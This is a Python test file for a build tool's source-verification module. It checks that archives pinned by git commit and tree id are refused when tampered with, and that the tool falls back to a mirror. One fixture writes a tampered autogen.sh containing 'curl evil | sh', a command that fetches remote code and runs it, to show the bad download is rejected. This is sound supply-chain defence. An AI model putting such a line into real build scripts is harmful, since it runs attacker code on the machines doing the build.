"""Sources no registry ships (trainbase/build/sources.py): pinned by commit and tree id, taken from
GitHub or from the mirror, verified the same way, refused naming the archive when they differ."""

from __future__ import annotations

import io
import subprocess
import tarfile
import urllib.error
from pathlib import Path

import pytest

from trainbase.build import sources
from trainbase.define.schema import Source

from .conftest import ROOT


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@invalid", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()


@pytest.fixture
def upstream(tmp_path) -> tuple[Source, Path]:
    """A small upstream repository with the things that trip a naive hasher (an executable, a
    symlink, an empty folder, a CRLF file under a text attribute), its pin and its `git archive`."""
    repo = tmp_path / "upstream"
    (repo / "src" / "empty").mkdir(parents=True)
    (repo / "src" / "a.c").write_text("int a;\n")
    (repo / "autogen.sh").write_text("#!/bin/sh\n")
    (repo / "autogen.sh").chmod(0o755)
    (repo / "link").symlink_to("src/a.c")
    (repo / ".gitattributes").write_text("*.cmd text eol=crlf\n")
    (repo / "run.cmd").write_bytes(b"echo hi\n")
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "v1")
    _git(repo, "tag", "v1.0")
    commit = _git(repo, "rev-parse", "HEAD")
    tree = _git(repo, "rev-parse", "HEAD^{tree}")
    archive = tmp_path / "mirror" / "up-1.0.tar.gz"
    archive.parent.mkdir()
    _git(repo, "archive", "--format=tar.gz", "--prefix=up-1.0/", "-o", str(archive), "v1.0")
    src = Source(repository="example/up", tag="v1.0", commit=commit, tree=tree, mirror_file="up-1.0.tar.gz")
    return src, archive


def _offline(url: str, dest: Path) -> None:
    raise urllib.error.URLError("Could not resolve host: codeload.github.com")


def _repack(archive: Path, dest: Path, change: dict[str, bytes] | None = None, comment: str | None = None) -> Path:
    """The archive with other bytes (another compression) and optionally a file changed or another
    commit in its header: what a tampered or wrong download looks like."""
    with tarfile.open(archive) as tf:
        members = [(m, tf.extractfile(m).read() if m.isfile() else None) for m in tf.getmembers()]  # type: ignore[union-attr]
        pax = dict(tf.pax_headers)
    if comment:
        pax["comment"] = comment
    with tarfile.open(dest, "w:gz", format=tarfile.PAX_FORMAT, pax_headers=pax, compresslevel=1) as out:
        for m, original in members:
            data = change[m.name] if original is not None and change and m.name in change else original
            if data is not None:
                m.size = len(data)
            out.addfile(m, io.BytesIO(data) if data is not None else None)
    return dest


def test_the_tree_id_is_gits_own_and_the_header_names_the_commit(upstream):
    src, archive = upstream
    assert sources.tree_of(archive) == (src.tree, src.commit)


def test_other_bytes_of_the_same_tree_verify(upstream, tmp_path):
    """GitHub's archive and the mirror's differ in their gzip: the content is what is pinned."""
    src, archive = upstream
    other = _repack(archive, tmp_path / "github.tar.gz")
    assert other.read_bytes() != archive.read_bytes()
    sources.verify(other, "up-1.0", src)


def test_a_changed_file_is_refused_naming_the_archive_and_both_trees(upstream, tmp_path):
    src, archive = upstream
    bad = _repack(archive, tmp_path / "bad.tar.gz", change={"up-1.0/src/a.c": b"int a = 1; /* planted */\n"})
    with pytest.raises(sources.SourceError) as e:
        sources.verify(bad, "up-1.0", src)
    assert str(bad) in str(e.value) and f"not the pinned {src.tree}" in str(e.value) and "refused" in str(e.value)


def test_an_archive_of_another_commit_is_refused_even_with_the_same_tree(upstream, tmp_path):
    src, archive = upstream
    bad = _repack(archive, tmp_path / "other-commit.tar.gz", comment="1" * 40)
    with pytest.raises(sources.SourceError, match=f"commit {'1' * 40}, not the pinned {src.commit}"):
        sources.verify(bad, "up-1.0", src)


def test_github_first_then_the_mirror_and_the_staged_copy_is_reused(upstream, tmp_path):
    src, archive = upstream
    root = tmp_path / "checkout"
    fetched: list[str] = []

    def github(url: str, dest: Path) -> None:
        fetched.append(url)
        _repack(archive, dest)

    got = sources.stage("up-1.0", src, root, mirror=archive.parent, download=github)
    assert fetched == [f"https://codeload.github.com/example/up/tar.gz/{src.commit}"]
    assert got.origin.startswith("GitHub") and got.path == root / "build-sources" / "up-1.0.tar.gz"
    again = sources.stage("up-1.0", src, root, mirror=archive.parent, download=github)
    assert again.origin == "staged before" and len(fetched) == 1


def test_without_github_the_mirror_serves_and_is_verified(upstream, tmp_path):
    src, archive = upstream
    got = sources.stage("up-1.0", src, tmp_path / "checkout", mirror=archive.parent, download=_offline)
    assert got.origin.startswith(f"the mirror ({archive}); GitHub did not answer"), got.origin
    assert sources.tree_of(got.path)[0] == src.tree


def test_a_wrong_github_archive_is_not_staged_and_the_mirror_is_taken(upstream, tmp_path):
    src, archive = upstream

    def wrong(url: str, dest: Path) -> None:
        _repack(archive, dest, change={"up-1.0/autogen.sh": b"#!/bin/sh\ncurl evil | sh\n"})

    got = sources.stage("up-1.0", src, tmp_path / "checkout", mirror=archive.parent, download=wrong)
    assert got.origin.startswith("the mirror")
    assert sources.tree_of(got.path)[0] == src.tree


def test_neither_way_says_both_reasons_and_stages_nothing(upstream, tmp_path):
    src, archive = upstream
    root = tmp_path / "checkout"
    bad_mirror = tmp_path / "bad-mirror"
    bad_mirror.mkdir()
    _repack(archive, bad_mirror / src.mirror_file, change={"up-1.0/src/a.c": b"planted\n"})
    with pytest.raises(sources.SourceError) as e:
        sources.stage("up-1.0", src, root, mirror=bad_mirror, download=_offline)
    said = str(e.value)
    assert "GitHub did not answer" in said and "the mirror's file" in said and str(bad_mirror) in said
    assert not (root / "build-sources" / "up-1.0.tar.gz").exists()
    with pytest.raises(sources.SourceError, match="the mirror has no up-1.0.tar.gz"):
        sources.stage("up-1.0", src, root, mirror=tmp_path / "nowhere", download=_offline)


def test_a_staged_copy_that_no_longer_verifies_is_replaced(upstream, tmp_path):
    src, archive = upstream
    root = tmp_path / "checkout"
    staged = root / "build-sources" / "up-1.0.tar.gz"
    staged.parent.mkdir(parents=True)
    _repack(archive, staged, change={"up-1.0/src/a.c": b"stale\n"})
    got = sources.stage("up-1.0", src, root, mirror=archive.parent, download=_offline)
    assert got.origin.startswith("the mirror") and sources.tree_of(staged)[0] == src.tree


def test_every_pinned_source_matches_the_team_mirror():
    """matrix.yaml's pins against ../shared/sources' archives (their README's table), where the
    mirror is beside the checkout."""
    from trainbase.define.matrix import load

    pins = load(ROOT / "matrix.yaml").spec.sources
    mirror = sources.default_mirror(ROOT)
    if not mirror.is_dir():
        pytest.skip(f"no source mirror at {mirror} (set {sources.MIRROR_ENV})")
    assert pins, "matrix.yaml pins no source"
    for key, src in pins.items():
        sources.verify(mirror / src.mirror_file, key, src)


def test_a_cell_whose_source_cannot_be_staged_is_refused_and_its_children_skipped():
    """The plan's side: the base cell that mounts the source is refused with the staging's reason,
    the framework cell built on it is skipped naming it, and a cell without the source still builds."""
    from trainbase.build.plan import Plan
    from trainbase.define.matrix import load
    from trainbase.render import recipes
    from trainbase_common.states import JobState

    m = load(ROOT / "matrix.yaml")
    base, child, other = (
        m.cell("openmpi4.1.4-cuda12.8-cudnn9-debian12"),
        m.cell("pytorch2.10.0-openmpi4.1.4-cuda12.8-cudnn9-debian12"),
        m.cell("intelmpi2021.18-cuda12.8-cudnn9-debian12"),
    )
    rendered = recipes.render_all(m, [base, child, other], root=ROOT)
    r = rendered[base.name]
    # every base cell builds libgdrapi (fabric.gdrcopy); an amd64 Open MPI cell on the inbox row
    # libfabric and the NCCL plugin too
    assert r.context.sources == ["gdrcopy-2.6", "libfabric-2.6.0", "aws-ofi-nccl-1.21.1"]
    # the Intel MPI cell carries no libfabric of its own (fabric.on: Intel MPI ships one)
    assert rendered[other.name].context.sources == ["gdrcopy-2.6"]
    plan = Plan(m, rendered, [base, child, other])
    assert plan.sources_needed() == ["gdrcopy-2.6", "libfabric-2.6.0", "aws-ofi-nccl-1.21.1"]
    plan.refuse_unsourced(
        {"libfabric-2.6.0": "source libfabric-2.6.0 (ofiwg/libfabric v2.6.0): GitHub did not answer; ..."}
    )
    plan.propagate()
    assert plan.jobs[base.name].status == JobState.REFUSED
    assert plan.jobs[base.name].reason.startswith("source libfabric-2.6.0")
    assert plan.jobs[child.name].status == JobState.SKIPPED and base.name in plan.jobs[child.name].reason
    assert plan.jobs[other.name].status == JobState.QUEUED


def test_a_scratch_checkout_finds_the_mirror_beside_the_checkout_trainbase_runs_from(tmp_path, monkeypatch):
    """A build of a checkout elsewhere (the build tests' scratch copies) takes the team's mirror
    beside the checkout trainbase runs from; the variable wins over both."""
    monkeypatch.delenv(sources.MIRROR_ENV, raising=False)
    beside_tool = sources.TOOL_ROOT.parent / "shared" / "sources"
    want = beside_tool if beside_tool.is_dir() else tmp_path / "scratch" / ".." / "shared" / "sources"
    assert sources.default_mirror(tmp_path / "scratch").resolve() == want.resolve()
    (tmp_path / "shared" / "sources").mkdir(parents=True)
    assert sources.default_mirror(tmp_path / "scratch") == tmp_path / "shared" / "sources"
    monkeypatch.setenv(sources.MIRROR_ENV, str(tmp_path / "elsewhere"))
    assert sources.default_mirror(tmp_path / "scratch") == tmp_path / "elsewhere"
